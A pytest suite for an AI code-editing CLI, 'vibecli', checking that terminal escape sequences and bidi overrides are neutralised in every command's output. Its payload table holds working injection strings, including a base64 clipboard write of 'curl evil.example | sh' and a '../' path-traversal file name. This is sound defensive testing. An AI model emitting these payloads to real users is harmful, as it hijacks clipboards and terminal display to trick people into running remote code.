"""Terminal injection: escape sequences and bidi overrides in answers, files, instructions and check
output never reach stdout or stderr raw (clipboard writes, window titles, a cleared screen, text
that reads backwards), in every command that shows them."""

from __future__ import annotations

import pytest
from harness import GREET, Snapshot, answer, check, git

PAYLOADS = {
    "osc52 clipboard write": "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07",
    "osc0 window title": "\x1b]0;you have been pwned\x07",
    "csi clear screen": "\x1b[2J\x1b[3J\x1b[H",
    "bidi override": "\u202etxt.exe\u202c \u2066isolated\u2069",
    "c1 csi and bell": "\x9b2J\x07\x08\x7f",
}
RAW = set(range(0x20)) - {0x0A, 0x09} | set(range(0x7F, 0xA0)) | {0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F),
                                                                    *range(0x2066, 0x206A)}


def assert_nothing_raw(run) -> None:
    for name, stream in (("stdout", run.stdout), ("stderr", run.stderr)):
        raw = sorted({hex(ord(c)) for c in stream if ord(c) in RAW})
        assert not raw, f"{name} of `vibecli {' '.join(run.args[:2])}` carries {raw}: {stream[-400:]!r}"


def _code(payload: str) -> str:
    return f'def greet(name):\n    # {payload}\n    return "Hello, " + name\n'


def _edit(sandbox, instruction: str, *flags: str, answers: tuple, **env):
    """`vibecli edit` as a person at a terminal runs it: human output, not --json."""
    replay = sandbox.replay(*answers)
    return sandbox.run("edit", instruction, *flags, "--backend", "replay", "--replay-file", str(replay), **env)


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_an_applied_answer_its_log_and_log_show(sandbox, name):
    payload = PAYLOADS[name]
    before = Snapshot.take(sandbox)
    run = _edit(sandbox, f"make greet return {payload}", "greet.py", answers=(answer("greet.py", "greet", _code(payload)),))
    check(sandbox, before, run, exit_code=0, committed=["greet.py"])
    assert_nothing_raw(run)
    assert "\\x1b" in run.stdout or "\\u202e" in run.stdout or "\\x9b" in run.stdout  # shown, made visible
    run_id = sandbox.run("log", "--json").json["runs"][0]["id"]
    for args in (("log",), ("log", "show", run_id)):
        before = Snapshot.take(sandbox)
        shown = sandbox.run(*args)
        check(sandbox, before, shown, exit_code=0)
        assert_nothing_raw(shown)
    assert payload in sandbox.run("log", "show", run_id, "--json").json["calls"][0]["output"]  # JSON stays exact


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_a_dry_run_diff(sandbox, name):
    before = Snapshot.take(sandbox)
    run = _edit(sandbox, "make greet return", "greet.py", "--dry-run",
                answers=(answer("greet.py", "greet", _code(PAYLOADS[name])),))
    check(sandbox, before, run, exit_code=0)
    assert_nothing_raw(run)


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_a_rejected_answer_in_the_error_line(sandbox, name):
    before = Snapshot.take(sandbox)
    run = _edit(sandbox, "make greet return", "greet.py", "--max-attempts", "1",
                answers=(f"{PAYLOADS[name]} not an edit at all",))
    check(sandbox, before, run, exit_code=3)
    assert_nothing_raw(run)
    assert len([line for line in run.stderr.splitlines() if line.startswith("vibecli:")]) == 1


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_verbose_output(sandbox, name):
    before = Snapshot.take(sandbox)
    run = _edit(sandbox, f"do it {PAYLOADS[name]}", "greet.py", "--verbose",
                answers=(answer("greet.py", "greet", _code(PAYLOADS[name])),))
    check(sandbox, before, run, exit_code=0, committed=["greet.py"])
    assert_nothing_raw(run)


def test_a_path_in_an_answer_in_the_refusal(sandbox):
    before = Snapshot.take(sandbox)
    run = _edit(sandbox, "add a file", "greet.py", answers=(answer("../\x1b]0;owned\x07.py", None, "X = 1\n", op="create"),))
    check(sandbox, before, run, exit_code=5)
    assert_nothing_raw(run)


def test_a_repository_file_shown_in_diff_context_and_log_show(clean_sandbox):
    sandbox = clean_sandbox
    hostile = GREET.replace("def main():", f"def main():\n    # {PAYLOADS['osc52 clipboard write']}{PAYLOADS['bidi override']}")
    sandbox.commit({"greet.py": hostile})
    code = 'def greet(name):\n    return "Hello, " + name\n'
    before = Snapshot.take(sandbox)
    run = _edit(sandbox, "make greet return", "greet.py", answers=(answer("greet.py", "greet", code),))
    check(sandbox, before, run, exit_code=0, committed=["greet.py"])
    assert_nothing_raw(run)
    run_id = sandbox.run("log", "--json").json["runs"][0]["id"]
    shown = sandbox.run("log", "show", run_id)
    assert shown.exit_code == 0 and "\\x1b]52" in shown.stdout
    assert_nothing_raw(shown)


def test_the_repo_map_of_a_hostile_file(clean_sandbox):
    sandbox = clean_sandbox
    sandbox.commit({"evil.py": f'def title(text="{PAYLOADS["osc0 window title"]}"):\n    return text\n'})
    before = Snapshot.take(sandbox)
    run = sandbox.run("map", "--estimate")
    check(sandbox, before, run, exit_code=0)
    assert "title" in run.stdout
    assert_nothing_raw(run)


def test_check_output_shown_by_fix(clean_sandbox):
    sandbox = clean_sandbox
    lint = sandbox.scratch / "lint.py"
    lint.write_text(f"print('greet.py:2: {PAYLOADS['csi clear screen']} bad {PAYLOADS['osc52 clipboard write']}')\n"
                    "raise SystemExit(1)\n")
    still = GREET.replace("def main", "# tried\ndef main")
    replay = sandbox.replay(answer("greet.py", None, still, op="rewrite"))
    before = Snapshot.take(sandbox)
    run = sandbox.run("fix", "--lint-cmd", f"python {lint}", "--max-rounds", "1", "--verbose", "--backend", "replay",
                      "--replay-file", str(replay))
    check(sandbox, before, run, exit_code=4)
    assert_nothing_raw(run)


def test_an_instruction_from_standard_input(sandbox):
    replay = sandbox.replay(answer("greet.py", "greet", _code("ok")))
    before = Snapshot.take(sandbox)
    run = sandbox.run("edit", "-", "greet.py", "--backend", "replay", "--replay-file", str(replay),
                      stdin=f"return it {PAYLOADS['osc0 window title']}\n")
    check(sandbox, before, run, exit_code=0, committed=["greet.py"])
    assert_nothing_raw(run)
    listed = sandbox.run("log")
    assert_nothing_raw(listed)
    assert git(sandbox.repo, "log", "-1", "--format=%s").startswith("return it")
